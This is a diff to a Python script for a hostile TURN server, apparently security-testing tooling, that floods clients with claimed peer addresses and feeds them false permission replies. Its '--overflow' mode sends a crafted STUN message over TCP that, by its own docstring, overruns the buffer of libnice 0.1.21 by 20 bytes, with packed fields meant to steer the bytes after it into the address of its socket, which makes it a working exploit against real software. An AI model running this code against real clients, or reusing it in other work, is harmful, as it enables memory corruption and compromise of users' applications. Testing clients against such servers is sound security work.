@@ -1,15 +1,18 @@
 """A hostile TURN server: after an allocation it claims that datagrams came from many addresses (RFC 8656 §11.4).
 
 It reports how many of them it claimed, and how many permissions for addresses the client asked for meanwhile. With
-`--lifetime 0`, its allocations are over at once. With `--overflow`, it listens on TCP and sends each client a message
-that is longer than the client's buffer.
+`--refuse`, it answers each request for a permission with a new nonce, after a false message of success. With
+`--lifetime 0`, its allocations are over at once. With `--overflow`, it listens on TCP and sends a message that is longer
+than the client's buffer.
 """
 
 import argparse
 import hashlib
 import os
 import socket
+import struct
 import time
+from contextlib import suppress
 
 from aioice import stun
 
@@ -25,6 +28,7 @@ def main() -> None:
     arguments.add_argument("--host", required=True)
     arguments.add_argument("--number", type=int, default=0)
     arguments.add_argument("--lifetime", type=int, default=600)
+    arguments.add_argument("--refuse", action="store_true")
     arguments.add_argument("--overflow", action="store_true")
     chosen = arguments.parse_args()
     if chosen.overflow:
@@ -32,10 +36,19 @@ def main() -> None:
     server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     server.bind((chosen.host, 0))
     report("listening", url=f"turn:ann:secret@{chosen.host}:{server.getsockname()[1]}")
-    requests = Requests(server, chosen.lifetime)
+    requests = Requests(server, chosen.lifetime, chosen.refuse)
     while not requests.allocate():
         pass
     server.setblocking(False)
+    if chosen.refuse:
+        while requests.permissions == 0:
+            requests.drain()
+            time.sleep(0.001)
+        end = time.monotonic() + 3
+        while time.monotonic() < end:
+            requests.drain()
+            time.sleep(0.001)
+        report("refused", permissions=requests.permissions)
     for start in range(0, chosen.number, BURST):
         for index in range(start, start + BURST):
             server.sendto(indication(index), requests.client)
@@ -50,14 +63,21 @@ def main() -> None:
 
 
 def overflow(host: str) -> None:
-    """Sends each client a STUN message of 65,555 bytes and its padding, then bytes that would follow in memory."""
+    """Sends each client a STUN message that exceeds the buffer of libnice 0.1.21 by 20 bytes.
+
+    They give its fields for the bytes that were read and are expected values by which the next eight bytes become the
+    address of its socket.
+    """
     server = socket.create_server((host, 0))
     report("listening", url=f"turn:ann:secret@{host}:{server.getsockname()[1]}?transport=tcp")
-    clients = []
     while True:
         client, _ = server.accept()
-        clients.append(client)
-        client.sendall(b"\x00\x01\xff\xff" + b"\x41" * (65_552 + 65_536))
+        client.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        fields = bytes(4) + struct.pack("<QI", 65_536, 65_564) + bytes(4)
+        with suppress(OSError):
+            for part in (b"\x00\x01\xff\xff" + bytes(65_532), fields, b"A" * 8, b"A" * 100):
+                client.sendall(part)
+                time.sleep(0.5)
         report("overflowed")
 
 
@@ -74,8 +94,8 @@ def indication(index: int) -> bytes:
 class Requests:
     """The requests of the client: one user with any name and the password `secret`."""
 
-    def __init__(self, server: socket.socket, lifetime: int):
-        self.server, self.lifetime, self.client = server, lifetime, None
+    def __init__(self, server: socket.socket, lifetime: int, refuses: bool):
+        self.server, self.lifetime, self.refuses, self.client = server, lifetime, refuses, None
         self.permissions = 0
 
     def allocate(self) -> bool:
@@ -111,6 +131,14 @@ class Requests:
             return None
         if request.message_method == stun.Method.CREATE_PERMISSION:
             self.permissions += 1
+            if self.refuses:
+                self.server.sendto(b"\x01\x08\x00\x00\x21\x12\xa4\x42" + os.urandom(12), client)
+                response.message_class = stun.Class.ERROR
+                response.attributes["ERROR-CODE"] = (438, "Stale Nonce")
+                response.attributes["NONCE"] = os.urandom(8).hex().encode()
+                response.attributes["REALM"] = REALM
+                self.server.sendto(bytes(response), client)
+                return request.message_method
         if request.message_method == stun.Method.ALLOCATE:
             self.client = client
             response.attributes["XOR-RELAYED-ADDRESS"] = (self.server.getsockname()[0], 50_000)
